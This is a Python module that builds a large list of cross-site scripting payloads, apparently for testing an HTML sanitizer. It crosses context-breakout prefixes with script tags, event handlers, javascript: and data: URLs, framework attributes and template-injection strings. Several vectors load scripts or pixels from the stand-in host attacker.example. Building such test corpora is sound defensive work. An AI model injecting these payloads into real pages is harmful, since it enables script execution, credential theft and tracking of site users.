# ruff: noqa: E501 - what is hostile stays in one piece
"""Markup that would run a script, load something or change a page, where a text is taken for markup: our own list."""

from itertools import product

HOST = "attacker.example"
_RUN = "xss()"
# How a text leaves the place where it stands.
_EXITS = ("", '">', "'>", "</p>", "--></style></script></textarea></title>", '" ', "' ", "]]>", "</svg>", "\\\">")  # fmt: skip
_ELEMENTS = (
    f"<script>{_RUN}</script>", f"<script src=//{HOST}/a.js></script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>", f"<body onload={_RUN}>", f"<iframe src=javascript:{_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<a href=javascript:{_RUN}>x</a>", f"<form action=javascript:{_RUN}><button>x</button></form>", f"<object data=javascript:{_RUN}>",
    f"<embed src=//{HOST}/a.swf>", f"<link rel=stylesheet href=//{HOST}/a.css>", f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href=//{HOST}/>", f"<style>@import'//{HOST}/a.css';*{{background:url(//{HOST}/b)}}</style>", f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>", f"<details open ontoggle={_RUN}>x</details>", f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>", f"<marquee onstart={_RUN}>x</marquee>", f"<p tabindex=1 autofocus onfocus={_RUN}>x", f"<math><a xlink:href=javascript:{_RUN}>x</a></math>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>", f"<svg><use href='data:image/svg+xml,<svg onload={_RUN}>'/></svg>",
    f"<img src=//{HOST}/pixel.gif>", f"<img srcset='//{HOST}/p.gif 1x'>", f"<picture><source srcset=//{HOST}/q.gif><img></picture>", f"<div style='background:url(//{HOST}/c)'>x</div>",
    f"<p hx-get=//{HOST}/ hx-trigger=load>x</p>", f"<p data-hx-get=//{HOST}/ data-hx-trigger=load>x</p>", f"<p hx-on:htmx:load={_RUN}>x</p>", f"<p hx-on--load={_RUN}>x</p>",
    f"<p hx-trigger='load[{_RUN}]' hx-get=/>x</p>", f"<p hx-vals='js:{{a:{_RUN}}}' hx-get=/ hx-trigger=load>x</p>", f"<p x-data x-init={_RUN}>x</p>", f"<p x-on:load={_RUN} @click={_RUN}>x</p>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<template><script>{_RUN}</script></template>", f"<xmp><img src=x onerror={_RUN}></xmp>", f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<form id=x></form><button form=x formaction=javascript:{_RUN}>x</button>", f"<IMG SRC=x OnErRoR={_RUN}>", f"<img/src=x/onerror={_RUN}>", f"<img\tsrc=x\tonerror={_RUN}>", "<img src=x onerror=&#120;ss()>",
    f"<scr<script>ipt>{_RUN}</script>", f"<dialog open onclose={_RUN}>x</dialog>", f"<p popover id=x onbeforetoggle={_RUN}>x</p><button autofocus popovertarget=x>x",
)  # fmt: skip
_ATTRIBUTES = (f"onmouseover={_RUN} x=", f"onfocus={_RUN} autofocus x=", f"style=animation-name:x onanimationstart={_RUN} x=", f"onload={_RUN} x=", f"hx-get=//{HOST}/ hx-trigger=load x=")  # fmt: skip
_STRINGS = (f"';{_RUN}//", f'";{_RUN}//', f"\\';{_RUN}//", f"${{{_RUN}}}", f"`;{_RUN}//", f"</script><script>{_RUN}</script>", f"\u2028{_RUN}", f"{{{{constructor.constructor('{_RUN}')()}}}}",
            f"{{% debug %}}{_RUN}", f"#{{{_RUN}}}", "%%{init: {'securityLevel':'loose'}}%%", f'click A call {_RUN}', f'A["<img src=x onerror={_RUN}>"]', f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script>{_RUN}&#60;/script>")  # fmt: skip

PAYLOADS = (
    *(f"{leave}{element}" for leave, element in product(_EXITS, _ELEMENTS)),
    *(f"{quote}{attribute}{quote}" for quote, attribute in product(("", '"', "'", "`"), _ATTRIBUTES)),
    *_STRINGS,
)

ADDRESSES = tuple(
    template.replace("RUN", _RUN).replace("HOST", HOST)
    for template in (
        "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "\x01javascript:RUN", "java\tscript:RUN", "java\nscript:RUN", "java\rscript:RUN",
        "javascript&colon;RUN", "javascript&#58;RUN", "&#106;avascript:RUN", "javascript://example.com/%0aRUN", "vbscript:RUN", "livescript:RUN",
        "data:text/html,<script>parent.RUN</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=RUN>",
        "blob:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN", "filesystem:javascript:RUN", "feed:javascript:RUN", "javascript:RUN//http://example.com",
        "http:javascript:RUN", "//javascript:RUN", "\u2028javascript:RUN", "\ufeffjavascript:RUN", "javascript\u200b:RUN", "jav&#x09;ascript:RUN", "http://\"onmouseover=RUN x=\"", "http://x'onmouseover='RUN",
        "http://x\"><img src=x onerror=RUN>", "mailto:a@HOST", "file:///etc/passwd", "ftp://HOST/", "ws://HOST/", "intent://HOST/", "about:blank#RUN", "\\\\HOST\\a",
    )
)  # fmt: skip
